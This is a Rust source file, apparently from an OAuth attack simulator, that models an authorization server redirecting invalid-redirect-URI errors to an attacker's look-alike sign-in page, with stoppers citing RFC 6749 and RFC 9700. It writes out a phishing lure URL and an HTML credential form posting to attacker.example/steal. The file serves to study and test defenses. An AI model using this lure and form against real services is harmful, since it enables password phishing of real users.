//! `open-redirect-on-error`: an authorization request with a redirect URI the AS does
//! not accept; an AS that still redirects the error there becomes an open redirector
//! that sends Alice, from a URL on as.example, to the attacker's phishing page
//! (RFC 6749 §4.1.2.1, RFC 9700 §4.11.2).
//!
//! Alice opens only links to sites she trusts and types her password only on
//! as.example's pages or where as.example's own redirect took her (the browser's
//! person model), so the lure must be an as.example link, and only the AS's redirect
//! can bring her to the look-alike page.

use crate::actors::defenses::DefenseId;
use crate::actors::well_known as wk;
use crate::actors::{ActorId, Defenses, UserAction};
use crate::attacks::attacker::{Attacker, Kit, Moves, Playbook};
use crate::attacks::setup::*;
use crate::attacks::{Attack, AttackInfo, Capability, Stopper};
use crate::protocol::requests::{AuthorizationRequest, ResponseType};
use crate::sim::Simulation;
use crate::sim::world::WorldBuilder;

pub struct OpenRedirectOnError;

/// How the lure reaches Alice.
const VIA: &str = "an e-mail from attacker.example";
/// The look-alike sign-in page, the redirect URI of the lure.
const PHISHING_PAGE: &str = "https://attacker.example/signin";

static INFO: AttackInfo = AttackInfo {
    id: "open-redirect-on-error",
    title: "The AS as an open redirector on error",
    story: "Alice opens links only to as.example and Photo Printer, and types her password only on as.example's \
            pages — or where as.example itself sends her. Mallory e-mails Alice a link to as.example/authorize for \
            Photo Printer, with redirect_uri pointing at her own phishing page. The redirect URI is not registered, \
            so the request is invalid — but an AS that redirects errors anyway sends Alice from a trusted \
            as.example URL straight to a page that looks like the AS's sign-in form. Trusting as.example's \
            redirect, Alice types her password into it.",
    capabilities: &[Capability::WebAttacker],
    setup: "The attacker's site with a copy of the AS's sign-in page.",
    steps: &[
        "E-mail Alice a link to as.example/authorize?client_id=photo-printer&redirect_uri=https://attacker.example/signin",
        "Serve a look-alike sign-in form at /signin that posts to the attacker",
    ],
    goal: "the attacker's server receives Alice's password",
    stoppers: &[
        Stopper {
            defense: DefenseId::NoRedirectOnInvalidUri,
            why: "an invalid redirect URI gets an error page at the AS, never a redirect (RFC 6749 §4.1.2.1)",
            needs: &[],
            with_rest_of_bcp: false,
            fails_the_flow: false,
        },
        Stopper {
            defense: DefenseId::ParRequired,
            why: "the AS takes only authorization requests the client pushed itself; the URL the attacker wrote gets an error page, never a redirect (RFC 9126 §5)",
            needs: &[],
            with_rest_of_bcp: false,
            fails_the_flow: false,
        },
    ],
    references: "RFC 6749 §4.1.2.1; RFC 9700 §4.11.2",
};

fn lure() -> String {
    AuthorizationRequest::new(ResponseType::Code, wk::CLIENT_ID, PHISHING_PAGE)
        .scope("openid photos.read")
        .url(&format!("{}/authorize", wk::AS_ISSUER))
}

/// The attacker's one move: the e-mail with the lure.
struct Lure;

impl Playbook for Lure {
    fn on_input(&mut self, _kit: &mut Kit, ctx: &mut Moves<'_, '_>, name: &str, _value: &str) {
        if name != SEND_LINK {
            return;
        }
        let url = lure();
        ctx.note(format!(
            "Attacker: e-mails Alice a link to {}/authorize, a real as.example address; its redirect_uri is {PHISHING_PAGE}, which Photo Printer never registered.",
            wk::AS_ISSUER
        ));
        ctx.input(
            ActorId::new(wk::BROWSER),
            UserAction::LinkReceived {
                url,
                via: VIA.to_string(),
            },
            "",
        );
    }
}

/// The instruction that makes the attacker send its e-mail.
const SEND_LINK: &str = "e-mails Alice a link";

impl Attack for OpenRedirectOnError {
    fn info(&self) -> &'static AttackInfo {
        &INFO
    }

    fn build_world(&self, seed: u64, defenses: Defenses) -> Simulation {
        let mut sim = WorldBuilder::standard(seed, defenses).build();
        let site = Attacker::new(ATTACKER, "Attacker (attacker.example)", &[ATTACKER_ORIGIN], Lure)
            .with_page(
                "/signin",
                "Sign in",
                r#"<h1>as.example</h1><p>Your session expired. Sign in again to continue.</p>
<form id="login" method="post" action="https://attacker.example/steal">
<input name="username"><input type="password" name="password"><button type="submit">Sign in</button></form>"#,
            );
        sim.add_actor(Box::new(site));
        sim.push_script(instruct(
            ATTACKER,
            SEND_LINK,
            "Mallory e-mails Alice: \"Your as.example session expired — sign in again.\"",
        ));
        sim
    }

    fn goal(&self, sim: &Simulation) -> Option<String> {
        let loot = sim.actor::<Attacker>(ATTACKER)?.loot();
        loot.passwords
            .iter()
            .any(|(u, _)| u == wk::ALICE)
            .then(|| "the attacker's server received Alice's password".to_string())
    }
}

pub static ATTACK: OpenRedirectOnError = OpenRedirectOnError;
